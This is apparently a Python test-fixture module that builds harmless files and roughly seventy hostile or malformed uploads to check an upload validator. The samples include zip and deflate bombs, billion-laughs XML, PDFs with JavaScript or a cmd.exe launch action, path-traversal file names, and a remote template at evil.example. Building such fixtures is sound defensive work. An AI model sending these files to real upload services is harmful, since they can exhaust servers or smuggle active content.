"""Makes files that mean harm, or that look as if they did, for whoever takes files from outside; and good ones."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image

from lms.kit.kinds import MIME, Kind, Refusal

MEGABYTE = 1024 * 1024
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
PRESENTATION = "http://schemas.openxmlformats.org/presentationml/2006/main"
MP3 = (b"\xff\xfb\x90\x00" + bytes(413)) * 40


def docx() -> bytes:
    """Give a Word file."""
    document, out = Document(), io.BytesIO()
    document.add_paragraph("Å lytte")
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    """Give a spreadsheet."""
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **more) -> bytes:
    """Give a picture of one colour."""
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **more)
    return out.getvalue()


def pptx(slides: int = 3, *, hidden: int = 0, filler: int = 0, seed: bytes = b"") -> bytes:
    """Give a presentation with a thumbnail; `filler` bytes of a picture that cannot be packed make it heavy."""
    main = MIME[Kind.PPTX] + ".main+xml"
    names = [f"ppt/slides/slide{number}.xml" for number in range(1, slides + 1)]
    overrides = "".join(f'<Override PartName="/{name}" ContentType="application/xml"/>' for name in names)
    links = "".join(
        f'<Relationship Id="r{at}" Type="{OFFICE_RELATION}/slide" Target="slides/slide{at}.xml"/>'
        for at in range(1, slides + 1)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{main}"/>{overrides}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATION}/officeDocument" '
            f'Target="ppt/presentation.xml"/></Relationships>',
        )
        archive.writestr("ppt/presentation.xml", f'<p:presentation xmlns:p="{PRESENTATION}"/>')
        archive.writestr(
            "ppt/_rels/presentation.xml.rels", f'<Relationships xmlns="{RELATIONS}">{links}</Relationships>'
        )
        for at, name in enumerate(names):
            archive.writestr(
                name, f'<p:sld xmlns:p="{PRESENTATION}"{" show=" + chr(34) + "0" + chr(34) if at < hidden else ""}/>'
            )
        archive.writestr("docProps/thumbnail.jpeg", picture())
        if filler:
            archive.writestr("ppt/media/image1.jpeg", _noise(filler, seed), zipfile.ZIP_STORED)
    return out.getvalue()


def _noise(size: int, seed: bytes) -> bytes:
    import random

    return random.Random(seed).randbytes(size)  # noqa: S311  # no secret


def with_parts(office: bytes, parts: dict[str, bytes | None]) -> bytes:
    """Give an Office file with parts added, replaced, or taken away (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(office)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 2, **how) -> bytes:
    """Give a PDF, changed in some way before it is written."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _number in range(pages):
            made.add_blank_page(page_size=(400, 300))
        if change:
            change(made)
        made.save(out, **how)
    return out.getvalue()


def box(name: bytes, content: bytes = b"") -> bytes:
    """Give one part of a film."""
    return struct.pack(">I", len(content) + 8) + name + content


def mp4(place: bytes = b"+59.91+010.75/") -> bytes:
    """Give a film's outline that tells where it was taken."""
    told = box(b"udta", box(b"\xa9xyz", place))
    moov = box(b"moov", box(b"mvhd", bytes(100)) + box(b"trak", box(b"tkhd", bytes(84)) + told) + told)
    return box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + moov + box(b"mdat", bytes(2000))


def good() -> list[tuple[str, bytes]]:
    """Give one good file of each kind."""
    return [
        ("Lysbilder.pptx", pptx()),
        ("Ark.docx", docx()),
        ("Tall.xlsx", xlsx()),
        ("Hefte.pdf", pdf()),
        ("Bilde.jpg", picture()),
        ("Bilde.png", picture("PNG")),
        ("Lyd.mp3", b"ID3\x03\0\0\0\0\0\x0a" + bytes(10) + MP3),
        ("Film.mp4", mp4()),
    ]


def _dict(text: str) -> pikepdf.Object:
    return pikepdf.Object.parse(text.encode())


def _root(key: str, text: str) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root[key] = made.make_indirect(_dict(text))

    return change


def _on_page(text: str) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(_dict(text))])

    return change


def _relation(kind: str, target: str, folder: str = "word") -> dict[str, bytes | None]:
    entry = f'<Relationship Id="r9" Type="{OFFICE_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
    return {f"{folder}/_rels/header9.xml.rels": f'<Relationships xmlns="{RELATIONS}">{entry}</Relationships>'.encode()}


def _locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def _png_that_says(width: int, height: int) -> bytes:
    import zlib

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(4096))) + chunk(b"IEND", b"")
    )


def _flate_bomb(made: pikepdf.Pdf) -> None:
    """A first page whose drawing unpacks to a gigabyte, packed twice."""
    import zlib

    once = zlib.compressobj(9)
    packed = b"".join(once.compress(b"0 0 m 9 9 l S\n" * 75_000) for _ in range(1000)) + once.flush()
    stream = pikepdf.Stream(made, zlib.compress(packed, 9))
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = made.make_indirect(stream)


def _says_pages(number: int) -> bytes:
    plain = pdf(qdf=True, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/Count 2", f"/Count {number}".encode())


def _loop(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids = pikepdf.Array([made.Root.Pages])


def _marked_locked(office: bytes) -> bytes:
    marked = bytearray(office)
    at = marked.find(b"PK\x01\x02")
    marked[at + 8 : at + 10] = struct.pack("<H", 1)
    return bytes(marked)


def _many(count: int) -> dict[str, bytes | None]:
    return {f"word/{number}.txt": b"" for number in range(count)}


def _laughs() -> bytes:
    more = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return f'<!DOCTYPE l [<!ENTITY l0 "lol">{more}]><w:p xmlns:w="w">&l8;</w:p>'.encode()


def _macro_types() -> bytes:
    types = zipfile.ZipFile(io.BytesIO(pptx())).read("[Content_Types].xml").decode()
    return types.replace(
        MIME[Kind.PPTX] + ".main", "application/vnd.ms-powerpoint.presentation.macroEnabled.main"
    ).encode()


def _overlapping() -> bytes:
    """A zip whose list of contents names the same packed part again and again."""
    out = bytearray(with_parts(docx(), {"word/a.xml": b"<a>" + b"0" * (3 * MEGABYTE) + b"</a>"}))
    end = out.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", out, end + 16)[0]
    at = out.find(b"word/a.xml", start) - 46
    entry = bytes(out[at : at + 46 + len("word/a.xml")])
    copies = b"".join(entry.replace(b"word/a.xml", f"word/{n:03}xm".encode()[:10]) for n in range(900))
    listed = bytes(out[start:end]) + copies
    count = struct.unpack_from("<H", out, end + 10)[0] + 900
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(listed), start, 0)
    return bytes(out[:start]) + listed + tail


def _long_list() -> bytes:
    """An Office file with three hundred thousand empty parts."""
    start, entries = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a", []
    for number in range(300_000):
        name = f"{number:06}".encode()
        entries.append(
            b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0) + name
        )
    listed = b"".join(entries)
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, len(listed), len(start), 0)
    return start + listed + tail


def _first_tag(size: int) -> bytes:
    return b'<a x="' + b"0" * size + b'"/>'


def _relations(count: int) -> bytes:
    entry = f'<Relationship Id="r" Type="{OFFICE_RELATION}/hyperlink" Target="a"/>'.encode()
    return f'<Relationships xmlns="{RELATIONS}">'.encode() + entry * count + b"</Relationships>"


def _lying_size() -> bytes:
    """A part that says it unpacks to a few bytes, and does to many."""
    out = bytearray(with_parts(docx(), {"word/b.xml.rels": b"0" * (20 * MEGABYTE)}))
    for sign, at_size, at_name in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = out.find(b"word/b.xml.rels") if sign[2] == 3 else out.rfind(b"word/b.xml.rels")
        struct.pack_into("<I", out, at - at_name + at_size, 100)
    return bytes(out)


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


JAVASCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
FILE_LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /F (a.pdf) >> >>"
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLD = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4000)

Case = tuple[str, Callable[[], bytes], Refusal]
R = Refusal
CASES: list[Case] = [
    # the first ten are tried in every run of the tests
    ("bomb.docx", lambda: with_parts(docx(), {"word/a.xml": bytes(190 * MEGABYTE)}), R.UNPACKS_TOO_LARGE),
    ("program.pdf", lambda: pdf(_root("/OpenAction", JAVASCRIPT)), R.RUNS_SOMETHING),
    ("locked.pdf", _locked_pdf, R.ENCRYPTED),
    ("pdf-and-zip.pdf", lambda: pdf() + _zip({"a.exe": b"MZ"}), R.HIDES_FILES),
    ("macros.pptx", lambda: with_parts(pptx(), {"ppt/vbaProject.bin": b"x"}), R.MACROS),
    ("huge.png", lambda: _png_that_says(60_000, 60_000), R.NOT_WHAT_IT_SAYS),
    ("../../etc/passwd", lambda: b"root:x:0:0", R.NOT_ALLOWED),
    ("page.jpg", lambda: HTML, R.NOT_WHAT_IT_SAYS),
    ("list.docx", _long_list, R.TOO_MANY_PARTS),
    ("html.mp3", lambda: b"ID3\x03\0\0\0\0\0\0" + HTML * 100, R.NOT_WHAT_IT_SAYS),
    # the others in the long run
    ("drawing.svg", lambda: SVG, R.NOT_ALLOWED),
    ("drawing.png", lambda: SVG, R.NOT_WHAT_IT_SAYS),
    ("drawing.pdf", lambda: SVG, R.NOT_WHAT_IT_SAYS),
    ("page.html", lambda: HTML, R.NOT_ALLOWED),
    ("page.pdf", lambda: HTML, R.NOT_WHAT_IT_SAYS),
    ("page.docx", lambda: HTML, R.NOT_WHAT_IT_SAYS),
    ("page.xhtml", lambda: HTML, R.NOT_ALLOWED),
    ("a.exe", lambda: b"MZ" + bytes(900), R.NOT_ALLOWED),
    ("a.pdf.exe", lambda: b"MZ" + bytes(900), R.NOT_ALLOWED),
    ("a.exe.pdf", lambda: b"MZ" + bytes(900), R.NOT_WHAT_IT_SAYS),
    ("a.zip", lambda: _zip({"a": b"a"}), R.NOT_ALLOWED),
    ("a.docm", docx, R.NOT_ALLOWED),
    ("empty.pdf", lambda: b"", R.EMPTY),
    ("no-end", pdf, R.NOT_ALLOWED),
    ("old.docx", lambda: OLD, R.NOT_WHAT_IT_SAYS),
    ("locked.xlsx", lambda: OLD + "EncryptedPackage".encode("utf-16-le"), R.ENCRYPTED),
    ("marked.docx", lambda: _marked_locked(docx()), R.ENCRYPTED),
    ("sheet.docx", xlsx, R.NOT_WHAT_IT_SAYS),
    ("words.pptx", docx, R.NOT_WHAT_IT_SAYS),
    ("cut.pptx", lambda: pptx()[:900], R.BROKEN),
    ("zip.pptx", lambda: _zip({"a.txt": b"hello"}), R.BROKEN),
    ("macro-type.pptx", lambda: with_parts(pptx(), {"[Content_Types].xml": _macro_types()}), R.MACROS),
    ("activex.docx", lambda: with_parts(docx(), {"word/activeX/activeX1.bin": b"x"}), R.MACROS),
    ("object.docx", lambda: with_parts(docx(), {"word/embeddings/oleObject1.bin": b"x"}), R.HIDES_FILES),
    ("program.pptx", lambda: with_parts(pptx(), {"ppt/media/run.exe": b"MZ"}), R.HIDES_FILES),
    ("archive.xlsx", lambda: with_parts(xlsx(), {"xl/media/more.zip": b"PK"}), R.HIDES_FILES),
    ("way-up.docx", lambda: with_parts(docx(), {"../../evil.xml": b"<a/>"}), R.BROKEN),
    ("from-root.docx", lambda: with_parts(docx(), {"/etc/cron.d/evil": b"x"}), R.BROKEN),
    ("many.docx", lambda: with_parts(docx(), _many(2100)), R.TOO_MANY_PARTS),
    (
        "small-bombs.docx",
        lambda: with_parts(docx(), {f"word/{n}.xml": bytes(MEGABYTE) for n in range(150)}),
        R.UNPACKS_TOO_LARGE,
    ),
    ("overlapping.docx", _overlapping, R.UNPACKS_TOO_LARGE),
    ("lying.docx", _lying_size, R.BROKEN),
    ("relations.docx", lambda: with_parts(docx(), {"word/_rels/a.rels": _relations(900_000)}), R.UNPACKS_TOO_LARGE),
    ("first-tag.docx", lambda: with_parts(docx(), {"word/a.xml": _first_tag(900_000)}), R.BROKEN),
    ("laughs.docx", lambda: with_parts(docx(), {"word/document.xml": _laughs()}), R.BROKEN),
    (
        "template.docx",
        lambda: with_parts(docx(), _relation("attachedTemplate", "https://evil.example/t.dotm")),
        R.LOADS_FROM_ELSEWHERE,
    ),
    ("share.docx", lambda: with_parts(docx(), _relation("image", "//server/share/a.png")), R.LOADS_FROM_ELSEWHERE),
    (
        "script.pdf",
        lambda: pdf(_root("/Names", f"<< /JavaScript << /Names [(a) {JAVASCRIPT}] >> >>")),
        R.RUNS_SOMETHING,
    ),
    ("launch.pdf", lambda: pdf(_on_page(LAUNCH)), R.RUNS_SOMETHING),
    (
        "hidden-launch.pdf",
        lambda: pdf(_on_page(LAUNCH), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        R.RUNS_SOMETHING,
    ),
    ("spelt.pdf", lambda: pdf(_on_page(LAUNCH), qdf=True).replace(b"/Launch", b"/L#61unch"), R.RUNS_SOMETHING),
    (
        "inside.pdf",
        lambda: pdf(lambda made: made.attachments.update({"a.exe": pikepdf.AttachedFileSpec(made, b"MZ")})),
        R.HIDES_FILES,
    ),
    ("elsewhere.pdf", lambda: pdf(_on_page(FILE_LINK)), R.HIDES_FILES),
    ("pages.pdf", lambda: pdf(pages=600), R.TOO_MANY_PAGES),
    ("says-pages.pdf", lambda: _says_pages(2_000_000_000), R.TOO_MANY_PAGES),
    ("loop.pdf", lambda: pdf(_loop), R.BROKEN),
    ("torn.pdf", lambda: b"%PDF-1.7\n" + bytes(5000), R.BROKEN),
    ("large.png", lambda: _png_that_says(8_000, 6_000), R.UNPACKS_TOO_LARGE),
    ("cut.jpg", lambda: picture(size=(900, 900))[:700], R.BROKEN),
    ("png.jpg", lambda: picture("PNG"), R.NOT_WHAT_IT_SAYS),
    ("film.mp3", mp4, R.NOT_WHAT_IT_SAYS),
    ("sound.mp4", lambda: MP3, R.NOT_WHAT_IT_SAYS),
    ("head.mp4", lambda: mp4()[:300], R.BROKEN),
    ("page.mp4", lambda: box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + HTML * 50, R.BROKEN),
    ("loop.mp4", lambda: mp4()[:32] + box(b"moov", struct.pack(">I", 4) + b"trak"), R.BROKEN),
    ("page-behind.mp3", lambda: MP3[:417] + HTML * 5000, R.NOT_WHAT_IT_SAYS),
]
"""A name, how the file is made, and why it is refused."""


def heavy_but_well() -> Iterator[tuple[str, bytes]]:
    """Give files that are well, but whose first page cannot be drawn with what is given."""
    yield "heavy.pdf", pdf(_flate_bomb)
    yield "wide.pdf", pdf(lambda made: made.pages[0].obj.__setitem__("/MediaBox", pikepdf.Array([0, 0, 10**9, 1])))
